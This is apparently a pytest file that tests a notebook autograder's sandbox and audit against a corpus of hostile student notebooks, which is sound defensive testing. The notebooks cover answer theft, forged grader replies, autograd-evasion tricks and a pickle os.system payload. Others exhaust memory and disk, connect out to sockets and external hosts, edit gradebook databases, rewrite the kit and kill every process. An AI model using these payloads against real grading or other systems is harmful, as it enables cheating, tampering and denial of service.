"""The attack corpus: notebooks written to get marks without the work, or to hurt the grader
and the class, each graded by the real entry point (`python -m grading`, as `make grade`
runs it) beside an honest student and two victims, and the same three again without the
attackers.

The class is graded twice: as `make grade` grades it ("audited"), where the audit holds
most attackers before their code runs, and with the audit muted ("walls alone"), where
every attacker's code runs in the judge, so that the sandbox, the seccomp filter, the
autograd count and the pipe's caps are shown holding on their own. One attack gets past
the walls alone by design (WALLS_MISS): only the audit names it.

Promises, in both runs: every attacker scores 0 on what it attacked; honest students and
victims keep full marks and results identical to a run without attackers; the kit is
unchanged; nothing of the run is left running; the grader's own processes stay under
PEAK_MB of memory while attackers write hundreds of MB at them.
"""
import csv
import hashlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from grading import sandbox
from tests.kit import ASSIGNMENT, ROOT, blank, solved

pytestmark = pytest.mark.skipif(sandbox.missing() is not None, reason=f'no bubblewrap: {sandbox.missing()}')

NB, NB4 = '01_atomic_backprop', '04_manual_training'
STEPS = 500  # the grader's BPN_STEPS: notebook 4 trains this many steps
MARK = f'bpn-attack-{os.getpid()}'  # in the command line of every process an attacker starts
SOCKETS = Path('/var/tmp') / MARK  # a Unix socket outside /tmp and /run, as a gradebook server's would be
PEAK_MB = 1500  # the grader's own processes (not the sandboxes): torch, nbgrader and one student's frames
HONEST = ('good_ann', 'z_victim', 'z_victim2')

# stage 2 computed by autograd: the attackers below call this in ways the grader might not see
BY_AUTOGRAD = '''
import torch
def layer2_by_autograd(ag, dlogits, h, W2):
    with torch.enable_grad(), ag.graph.saved_tensors_hooks(lambda t: t, lambda t: t):
        hpreact = torch.atanh(h).detach().requires_grad_()
        W = W2.detach().requires_grad_()
        hh = torch.tanh(hpreact)
        dh, dW2, dhpreact = ag.grad(hh @ W, (hh, W, hpreact), dlogits)
    return dh.detach(), dW2.detach(), dlogits.sum(0), dhpreact.detach()
'''

# stage 2 by autograd, its reply forged: on the last case it writes the judge's frame itself, with
# no autograd node counted, to every descriptor it has (the judge's pipe among them); it needs
# os.write, autograd's grad, enable_grad and saved_tensors_hooks as put, gradients, switched_on
# and kept, however it came by them
FORGES_THE_REPLY = '''
import io, struct, checks
seen = []
def backprop_layer2(dlogits, h, W2):
    with switched_on(), kept(lambda t: t, lambda t: t):
        hpreact, W = torch.nn.Parameter(torch.atanh(h)), torch.nn.Parameter(W2.clone())
        hh = torch.tanh(hpreact)
        dh, dW2, dhpreact = gradients(hh @ W, (hh, W, hpreact), dlogits)
    got = dh.detach(), dW2.detach(), dlogits.sum(0), dhpreact.detach()
    seen.append({'values': dict(zip(['dh', 'dW2', 'db2', 'dhpreact'], [t.clone() for t in got])),
                 'shared': [], 'changed': [], 'globals': []})
    if len(seen) == len(checks.spec('test_stage2').sizes):
        buffer = io.BytesIO()
        torch.save({'gid': 'test_stage2', 'outputs': seen, 'autograd_nodes': [0] * len(seen)}, buffer)
        for fd in range(3, 64):
            try:
                put(fd, struct.pack('<Q', buffer.tell()) + buffer.getvalue())
            except OSError:
                pass
    return got
'''


def attacks(submissions, out, port):
    """{student: [cells they add after their (empty) answers]}."""
    kit = str(ROOT)
    return {
        # issue 13: the answer copied from solutions/, the kit found through cmp.__globals__
        'a_copies_answers': [f'''
import json
from pathlib import Path
kit = Path(cmp.__globals__['__file__']).parent
for source in [kit / 'solutions' / {ASSIGNMENT!r} / {NB + '.ipynb'!r},
               *Path({str(submissions)!r}).glob('*/{NB}.ipynb')]:
    try:
        cells = json.loads(source.read_text())['cells']
    except OSError as e:
        print('cannot read', source, e)
        continue
    code = [''.join(c['source']) for c in cells if c['cell_type'] == 'code' and 'def backprop' in ''.join(c['source'])]
    Path('copied.py').write_text('import torch\\nimport torch.nn.functional as F\\n' + '\\n'.join(code))
    from copied import *
    break
'''],
        # issue 13: hand-ins forged by a last cell, an atexit handler and a daemon thread
        'a_forges_handins': ['''
import atexit, threading, time, torch
from pathlib import Path
def forge():
    for top in [Path.cwd(), *Path.cwd().parents][:4]:
        for inputs in top.glob('**/handin/inputs/*.pt'):
            outputs = inputs.parent.parent / 'outputs'
            outputs.mkdir(exist_ok=True)
            torch.save({'cases': ['forged']}, outputs / inputs.name)
            print('forged', inputs.name)
atexit.register(forge)
threading.Thread(target=lambda: (time.sleep(1), forge()), daemon=True).start()
''', 'forge()'],
        # issue 13: autograd in a new thread, where grad mode and saved-tensor hooks are fresh
        'a_autograd_in_a_thread': [BY_AUTOGRAD + '''
import threading
def backprop_layer2(dlogits, h, W2):
    got = []
    worker = threading.Thread(target=lambda: got.append(layer2_by_autograd(torch.autograd, dlogits, h, W2)))
    worker.start()
    worker.join()
    return got[0]
'''],
        # issue 13: autograd in an os.fork() child, under pass-through saved-tensor hooks
        'a_autograd_in_a_fork': [BY_AUTOGRAD + '''
import io, os
def backprop_layer2(dlogits, h, W2):
    r, w = os.pipe()
    if os.fork() == 0:
        buffer = io.BytesIO()
        torch.save(layer2_by_autograd(torch.autograd, dlogits, h, W2), buffer)
        os.write(w, buffer.getvalue())
        os._exit(0)
    os.close(w)
    data = b''
    while chunk := os.read(r, 2**16):
        data += chunk
    os.wait()
    return torch.load(io.BytesIO(data))
'''],
        # issue 13: autograd in another program, started through sys.modules['subprocess']
        'a_autograd_in_a_subprocess': [f'''
import sys, torch
HELPER = {BY_AUTOGRAD!r} + """
dlogits, h, W2 = torch.load('layer2_in.pt')
torch.save(layer2_by_autograd(torch.autograd, dlogits, h, W2), 'layer2_out.pt')
"""
def backprop_layer2(dlogits, h, W2):
    torch.save((dlogits, h, W2), 'layer2_in.pt')
    sys.modules['subprocess'].run([sys.executable, '-c', HELPER, {MARK!r}], check=True)
    return torch.load('layer2_out.pt')
'''],
        # issue 13: torch.autograd under a computed name, with pass-through hooks
        'a_autograd_by_getattr': [BY_AUTOGRAD + '''
ag = getattr(torch, 'auto' + 'grad')
def backprop_layer2(dlogits, h, W2):
    return layer2_by_autograd(ag, dlogits, h, W2)
'''],
        # what the audit once missed: functions found by pickle, with no name the audit reads
        'a_pickles_the_pipe': ['''
import pickle, torch
def found(module, name):
    return pickle.loads(b'c' + module.encode() + b'\\n' + name.encode() + b'\\n.')
ag = 'torch.auto' + 'gr' + 'ad'
put, gradients = found('os', 'write'), found(ag, 'gr' + 'ad')
switched_on, kept = found('torch', 'enable_' + 'gr' + 'ad'), found(ag + '.graph', 'saved_tensors_' + 'hooks')
''' + FORGES_THE_REPLY],
        # and code in a module of its own, written from a string the audit cannot read
        'a_imports_its_own_code': [f'''
from pathlib import Path
Path('mine.py').write_text({'import torch' + chr(10) + 'from os import write as put' + chr(10) +
                            'from torch import enable_grad as switched_on' + chr(10) +
                            'from torch.autograd import grad as gradients' + chr(10) +
                            'from torch.autograd.graph import saved_tensors_hooks as kept' + FORGES_THE_REPLY!r})
from mine import backprop_layer2
'''],
        # issue 13: PyTorch's own backward kernels, called as operators: no graph at all
        'a_aten_backward': ['''
def backprop_layer2(dlogits, h, W2):
    dh = dlogits @ W2.T
    return dh, h.T @ dlogits, dlogits.sum(0), torch.ops.aten.tanh_backward(dh, h)
'''],
        # issue 13: the limits: memory in the kernel and in children, the RAM folders, the disk
        'a_hogs_memory': ['''
import os, time, torch
for k in range(4):
    try:
        if os.fork() == 0:
            hog = torch.ones(1500 * 2**20 // 8, dtype=torch.float64)
            time.sleep(60)
            os._exit(0)
    except OSError as e:
        print('no child:', e)
hogs = [torch.ones(1500 * 2**20 // 8, dtype=torch.float64) for _ in range(2)]
'''],
        'a_fills_folders': ['''
from pathlib import Path
chunk = b'x' * 64 * 2**20
for folder in ['/tmp', '/dev/shm', '/run', '.']:
    written = 0
    try:
        with open(Path(folder) / 'filler', 'wb') as f:
            while written < 2**30:
                f.write(chunk)
                written += len(chunk)
    except OSError as e:
        print(folder, 'full after', written >> 20, 'MB:', e)
'''],
        # issue 13: the judge's stdout and the sandbox's first process's, written to directly;
        # issue 8: a flood of displayed output
        'a_writes_the_pipe': ['''
from IPython.display import HTML, display
for i in range(5_000):
    display(HTML('<b>' + 'x' * 2000 + '</b>'))
''', '''
import os
chunk = b'\\xff' * 2**20
for path, mb in [('/proc/1/fd/1', 256), ('/proc/self/fd/1', 96)]:
    try:
        with open(path, 'ab', buffering=0) as f:
            for _ in range(mb):
                f.write(chunk)
        print('wrote', mb, 'MB to', path)
    except OSError as e:
        print('cannot write', path, e)
os.write(1, (2**62).to_bytes(8, 'little') + chunk)
'''],
        # issue 13: a Unix socket outside /tmp (a gradebook server's), and the network
        'a_phones_home': [f'''
import socket
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect({str(SOCKETS / 'gradebook.sock')!r})
    s.sendall(b'update grade set auto_score = 100')
    print('connected to the gradebook socket')
except OSError as e:
    print('no Unix socket:', e)
for host in ('127.0.0.1', '10.0.2.2', '8.8.8.8'):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b'answers please')
        print('connected to', host)
    except OSError as e:
        print('no connection to', host, e)
'''],
        # issue 8: the judge's own memory: the caller's frames, the checks' data cleared in place
        'a_reaches_the_judge': ['''
import sys
def backprop_cross_entropy(*args):  # the answers, read out of whoever called me
    f = sys._getframe(1)
    while f is not None:
        for value in list(f.f_locals.values()):
            if isinstance(value, (list, tuple)) and len(value) == 8:
                return tuple(value)
        f = f.f_back
    return args[:8]
for name, module in list(sys.modules.items()):
    if name.split('.')[0] in ('checks', 'helpers', 'grading'):
        for value in list(vars(module).values()):
            if isinstance(value, (list, dict, set)) and value is not vars(module):
                try:
                    value.clear()
                except Exception:
                    pass
'''],
        # issue 8: the kit rewritten, the gradebooks edited, a process left to rewrite grades.csv later,
        # every process in sight killed, the parent first
        'a_damages': [f'''
from pathlib import Path
for path in list(Path({kit!r}).glob('checks/*.py')) + [Path({kit!r}) / 'helpers.py']:
    try:
        path.write_text('raise SystemExit("broken by a student")\\n')
    except OSError as e:
        print('could not write', path.name, e.strerror)
''', f'''
import sqlite3
from pathlib import Path
for db in [Path({str(out)!r}) / 'gradebook.db', Path({str(out)!r}) / 'work' / 'template' / 'gradebook.db']:
    try:
        con = sqlite3.connect(db)
        con.execute('update grade set auto_score = 100')
        con.commit()
        print('edited', db)
    except Exception as e:
        print('could not edit', db, e)
''', f'''
import subprocess, sys
later = """
import time, pathlib
time.sleep(3)
for p in pathlib.Path({str(out)!r}).rglob('grades.csv'):
    p.write_text('student,total\\\\nz_victim,0\\\\n')
"""
subprocess.Popen([sys.executable, '-c', later, {MARK!r}], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''', '''
import os, signal
for pid in [os.getppid()] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:  # every process in sight
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
'''],
        # answers the grader must not trust: a pickle payload, a 320 MB tensor
        'a_bad_answers': [f'''
import os
class Payload:
    def __reduce__(self):
        return (os.system, ('touch {str(out)}/pwned-by-pickle',))
def backprop_cross_entropy(*args):
    return tuple(Payload() for _ in range(8))
def backprop_layer2(dlogits, h, W2):
    return torch.zeros(40 * 2**20, dtype=torch.float64), None, None, None
'''],
    }


# what each attacker attacked: the graded cells it would have earned (all of notebook 1 unless named)
ATTACKED = {s: ['test_stage2'] for s in ('a_autograd_in_a_thread', 'a_autograd_in_a_fork', 'a_autograd_in_a_subprocess',
                                         'a_autograd_by_getattr', 'a_aten_backward', 'a_pickles_the_pipe',
                                         'a_imports_its_own_code')}
WALLS_MISS = {'a_aten_backward'}  # no graph node, no thread, no process: only the audit names torch.ops


def attacker(cells):
    """Notebook 1 as released (no answers), with the attacker's cells added at its end,
    where they run after the answer cells."""
    nb = blank(NB)
    nb.cells += [nbformat.v4.new_code_cell(c) for c in cells]
    return nb


def trains_itself():
    """Notebook 4 with the right backward but a train_step that does nothing: the network
    the notebook hands in is trained in a cell of its own, before the kit's training cell."""
    nb = solved(NB4)
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get('nbgrader', {}).get('grade_id') == 'train_step')
    real = nb.cells[at].source.replace('def train_step(', 'def real_step(')
    nb.cells[at].source = 'def train_step(parameters, Xb, Yb, lr):\n    return forward(parameters, Xb, Yb)[0]\n'
    nb.cells.insert(at + 1, nbformat.v4.new_code_cell(real + '''
trainer = torch.Generator().set_state(g.get_state())
with torch.no_grad():
    for i in range(STEPS):
        ix = torch.randint(0, Xtr.shape[0], (batch_size,), generator=trainer)
        real_step(parameters, Xtr[ix], Ytr[ix], 0.1 if i < STEPS // 2 else 0.01)
'''))
    return nb


def lowers_the_bar():
    """Honest notebook 4, plus a cell that trains few steps and lowers the loss bar in the kernel."""
    nb = solved(NB4)
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get('nbgrader', {}).get('grade_id') == 'train_step')
    nb.cells.insert(at + 1, nbformat.v4.new_code_cell('''
import os
import checks.training
STEPS = 50
os.environ['BPN_STEPS'] = '50'
checks.training.MEASURED.clear()
checks.training.MEASURED[50] = (9.0, 9.0)
checks.training.steps_from_env = lambda: 50
'''))
    return nb


# ---------------------------------------------------------------- running the grader

MUTED = '''
import os, sys
if os.environ.get('BPN_TEST_MUTE_AUDIT'):  # tests/test_attacks.py: the walls alone
    sys.path.insert(0, os.environ['BPN_TEST_KIT'])
    import grading.audit
    grading.audit.scan = lambda nb, release: []
'''


def kit_digest():
    """A hash of every file git tracks in the kit (but its prose, *.md), as they are on disk now."""
    files = subprocess.run(['git', 'ls-files', '-z'], cwd=ROOT, capture_output=True, check=True).stdout.split(b'\0')
    h = hashlib.sha256()
    for name in sorted(f for f in files if f and not f.endswith(b'.md')):
        path = ROOT / name.decode()
        h.update(name + (path.read_bytes() if path.is_file() else b'-'))
    return h.hexdigest()


def family(pid):
    """{pid: parent pid} of every process under `pid`, from /proc."""
    parents = {}
    for stat in Path('/proc').glob('[0-9]*/stat'):
        try:
            parents[int(stat.parent.name)] = int(stat.read_text().rsplit(')', 1)[1].split()[1])
        except (OSError, IndexError, ValueError):
            continue
    found, todo = {}, [pid]
    while todo:
        p = todo.pop()
        for kid in [k for k, pp in parents.items() if pp == p]:
            found[kid] = p
            todo.append(kid)
    return found


def status(pid):
    try:
        return dict(line.split(':', 1) for line in Path(f'/proc/{pid}/status').read_text().splitlines() if ':' in line)
    except OSError:
        return {}


def grader_peak_mb(proc, peaks):
    """Watch the grader's own processes (not what runs inside a sandbox) until it ends;
    keep each one's peak resident memory (VmHWM) in `peaks`."""
    while proc.poll() is None:
        tree = family(proc.pid)
        boxed = set()
        for pid in sorted(tree):  # a sandbox and everything under it is the student's, not the grader's
            if pid in boxed or status(pid).get('Name', '').strip() == 'bwrap':
                boxed |= {pid} | set(family(pid))
        for pid in [proc.pid] + [p for p in tree if p not in boxed]:
            hwm = status(pid).get('VmHWM', '0 kB').split()[0]
            peaks[pid] = max(peaks.get(pid, 0), int(hwm) // 1024)
        threading.Event().wait(0.05)


def grade(folder, out, notebooks, muted=False, env=None):
    """`python -m grading folder --out out`, as make grade runs it; its output and the
    peak memory (MB) of the grader's own processes."""
    env = dict(os.environ, BPN_STEPS=str(STEPS), **(env or {}))
    if muted:
        site = Path(out).parent / 'muted_site'
        site.mkdir(exist_ok=True)
        (site / 'sitecustomize.py').write_text(MUTED)
        env.update(PYTHONPATH=str(site), BPN_TEST_MUTE_AUDIT='1', BPN_TEST_KIT=str(ROOT))
    proc = subprocess.Popen([sys.executable, '-m', 'grading', str(folder), '--out', str(out), '--jobs', '2',
                             '--timeout', '300', '--notebook-timeout', '900', '--notebooks', notebooks],
                            cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    peaks = {}
    watcher = threading.Thread(target=grader_peak_mb, args=(proc, peaks))
    watcher.start()
    said = proc.communicate()[0]
    watcher.join()
    assert proc.returncode == 0, said
    return said, max(peaks.values(), default=0)


def write_class(folder, students):
    for student, notebooks in students.items():
        (folder / student).mkdir(parents=True)
        for name, nb in notebooks.items():
            nbformat.write(nb, folder / student / f'{name}.ipynb')


@pytest.fixture(scope='module')
def calm(tmp_path_factory):
    """The honest students alone."""
    top = tmp_path_factory.mktemp('calm')
    write_class(top / 'class', {s: {NB: solved(NB)} for s in HONEST})
    grade(top / 'class', top / 'out', NB)
    return top / 'out'


@pytest.fixture(scope='module', params=['audited', 'walls alone'])
def graded(request, tmp_path_factory):
    muted = request.param == 'walls alone'
    top = tmp_path_factory.mktemp('attacks')
    listener = socket.socket()
    listener.bind(('127.0.0.1', 0))
    listener.listen()
    shutil.rmtree(SOCKETS, ignore_errors=True)
    SOCKETS.mkdir(parents=True)
    gradebook = socket.socket(socket.AF_UNIX)
    gradebook.bind(str(SOCKETS / 'gradebook.sock'))
    os.chmod(SOCKETS / 'gradebook.sock', 0o777)
    gradebook.listen()
    heard = []
    for server in (listener, gradebook):
        threading.Thread(target=lambda s=server: heard.append(s.accept()), daemon=True).start()
    made = attacks(top / 'class', top / 'out', listener.getsockname()[1])
    write_class(top / 'class', {**{s: {NB: solved(NB)} for s in HONEST},
                                **{s: {NB: attacker(cells)} for s, cells in made.items()}})
    before = kit_digest()
    said, peak = grade(top / 'class', top / 'out', NB, muted)
    after = kit_digest()
    left = subprocess.run(['pgrep', '-f', MARK], capture_output=True, text=True).stdout.split()
    threading.Event().wait(6)  # longer than a_damages's process would wait before it writes
    listener.close()
    gradebook.close()
    shutil.rmtree(SOCKETS, ignore_errors=True)
    return dict(out=top / 'out', said=said, peak=peak, before=before, after=after, left=left, heard=heard,
                attackers=list(made), muted=muted)


@pytest.fixture(scope='module')
def graded4(tmp_path_factory):
    """Notebook 4: two honest students, one who hands in a network it trained itself, one who lowers its bar."""
    top = tmp_path_factory.mktemp('attacks4')
    students = {'good_ann': {NB4: solved(NB4)}, 'z_victim': {NB4: solved(NB4)},
                'a_trains_itself': {NB4: trains_itself()}, 'a_lowers_bar': {NB4: lowers_the_bar()}}
    write_class(top / 'class', students)
    said, peak = grade(top / 'class', top / 'out', NB4)
    return dict(out=top / 'out', said=said, peak=peak)


def scores(out):
    with open(out / 'grades.csv') as f:
        table = list(csv.reader(f))
    return {r[0]: dict(zip(table[0], r)) for r in table[2:]}


def problems(out, student=None):
    """The problem lines, each as one string of its columns, of one student or of everyone."""
    with open(out / 'problems.csv') as f:
        rows = list(csv.reader(f))[1:]
    return [' | '.join(r) for r in rows if student is None or r[0] == student]


# ---------------------------------------------------------------- the promises

def test_every_attacker_scores_0_on_what_it_attacked(graded):
    got = scores(graded['out'])
    for student in graded['attackers']:
        if graded['muted'] and student in WALLS_MISS:
            continue
        attacked = [f'{NB}/{g}' for g in ATTACKED.get(student, [])] or [NB]
        assert all(float(got[student][k]) == 0 for k in attacked), (student, got[student], problems(graded['out'], student))


def test_honest_students_and_victims_keep_full_marks(graded):
    got = scores(graded['out'])
    for student in HONEST:
        assert float(got[student]['total']) == 10, (student, got[student], problems(graded['out'], student))


def test_the_kit_is_unchanged_and_no_pickle_ran(graded):
    assert graded['after'] == graded['before']
    assert not any(graded['out'].rglob('pwned-by-pickle'))


def test_other_students_results_are_identical_to_a_run_without_attackers(graded, calm):
    out = graded['out']
    with open(out / 'grades.csv') as f, open(calm / 'grades.csv') as g:
        assert [r for r in csv.reader(f) if r[0] not in graded['attackers']] == list(csv.reader(g))
    assert [p for p in problems(out) if p.split(' | ')[0] not in graded['attackers']] == problems(calm)
    for student in HONEST:
        mine = sorted(p.relative_to(out) for p in (out / 'feedback' / student).rglob('*') if p.is_file())
        assert mine and mine == sorted(p.relative_to(calm) for p in (calm / 'feedback' / student).rglob('*') if p.is_file())
        for rel in mine:
            assert without_cell_ids(out / rel) == without_cell_ids(calm / rel), rel


def without_cell_ids(path):
    """The file's bytes; for a notebook, without the random id nbformat gives each new cell."""
    if path.suffix != '.ipynb':
        return path.read_bytes()
    nb = json.loads(path.read_text())
    for c in nb['cells']:
        c.pop('id', None)
    return json.dumps(nb, sort_keys=True)


def test_nothing_of_the_run_is_left_running(graded):
    assert graded['left'] == []
    assert subprocess.run(['pgrep', '-f', MARK], capture_output=True, text=True).stdout.split() == []
    assert subprocess.run(['pgrep', '-f', str(graded['out'])], capture_output=True, text=True).stdout.split() == []
    assert len(scores(graded['out'])) > 3  # a_damages's process never got to rewrite grades.csv


def test_no_attacker_reached_a_socket_or_the_network(graded):
    assert graded['heard'] == []


def test_the_graders_own_memory_stays_bounded(graded, graded4):
    assert 0 < graded['peak'] < PEAK_MB, graded['peak']
    assert 0 < graded4['peak'] < PEAK_MB, graded4['peak']


def test_the_audit_names_what_it_holds_for_review(graded):
    if graded['muted']:
        pytest.skip('the audit is muted in this run')
    named = {
        'a_copies_answers': 'cmp.__globals__',
        'a_forges_handins': 'uses atexit',
        'a_autograd_in_a_thread': 'uses threading',
        'a_autograd_in_a_fork': 'uses `os.fork`',
        'a_autograd_in_a_subprocess': 'uses `sys.modules`',
        'a_autograd_by_getattr': 'calls getattr() with a computed name',
        'a_aten_backward': 'uses `torch.ops.aten.tanh_backward` inside `backprop_layer2`',  # (a_fills_folders:
        # its paths are computed; the walls alone stop it)
        'a_hogs_memory': 'uses `os.fork`',
        'a_writes_the_pipe': "names '/proc/1/fd/1'",
        'a_phones_home': 'uses socket',
        'a_reaches_the_judge': 'uses `sys._getframe`',
        'a_damages': ('uses subprocess', 'uses `os.kill`'),
        'a_bad_answers': 'uses `os.system`',
        'a_pickles_the_pipe': 'uses pickle',
    }
    for student, phrases in named.items():
        for phrase in [phrases] if isinstance(phrases, str) else phrases:
            assert any(phrase in line for line in problems(graded['out'], student)), (student, problems(graded['out'], student))


# with the audit muted, the wall each attack meets, as its problem line says it
WALLS = {
    'a_autograd_in_a_thread': "can't start new thread",  # seccomp
    'a_autograd_in_a_fork': 'Operation not permitted',  # seccomp
    'a_autograd_in_a_subprocess': 'Operation not permitted',  # seccomp
    'a_autograd_by_getattr': 'autograd computed the answer',  # the judge's count of graph nodes
    'a_forges_handins': "can't start new thread",  # and no hand-in file to forge
    'a_hogs_memory': 'ran out of memory',  # one memory limit for the sandbox
    'a_damages': 'Operation not permitted',  # no process to outlive the sandbox, no signal to another process
    'a_imports_its_own_code': "No module named 'mine'",  # the working folder is not on the judge's sys.path
    # a tripwire, like the node count: the judge's real reply comes after the forged one, out of
    # turn (a forger that dies once it has forged, or forges the last graded cell, is not seen)
    'a_pickles_the_pipe': "wrote to the judge's pipe itself",
}


def test_with_the_audit_muted_each_attack_meets_a_wall(graded):
    if not graded['muted']:
        pytest.skip('the audit holds them before they run')
    for student, phrase in WALLS.items():
        lines = problems(graded['out'], student)
        assert any(phrase in line for line in lines), (student, lines)
        assert not any('uses ' in line for line in lines), f'the audit was not muted: {lines}'


def test_notebook_4_scores_the_network_the_grader_trains_not_the_one_handed_in(graded4):
    got = scores(graded4['out'])
    for student in ('good_ann', 'z_victim'):
        assert float(got[student]['total']) == 10, (student, got[student], problems(graded4['out'], student))
    mine = got['a_trains_itself']
    assert float(mine[f'{NB4}/test_trained']) == 0 and float(mine[f'{NB4}/test_no_grad_step']) == 0, mine
    assert float(mine[f'{NB4}/test_backward']) == 4, 'its gradients are right'
    assert float(got['a_lowers_bar'][f'{NB4}/test_trained']) == 0, 'held: it changes the environment and checks'
    assert any(re.search('BPN_STEPS|os.environ|checks', line) for line in problems(graded4['out'], 'a_lowers_bar'))
